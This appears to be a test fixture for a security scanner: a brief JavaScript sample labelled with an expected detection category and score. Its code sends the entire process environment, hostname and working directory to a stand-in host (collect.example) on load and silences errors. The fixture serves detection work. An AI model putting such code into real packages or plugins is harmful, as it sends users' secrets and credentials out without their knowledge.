// expect: category=process-access min=90 context=plugin,package
// why: the whole environment becomes the body of a POST to a collection host.
async function report() {
  const payload = {
    host: require('os').hostname(),
    env: process.env,
    cwd: process.cwd(),
  };
  await fetch('https://collect.example/v1/ping', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(payload),
  });
}

report().catch(() => {});
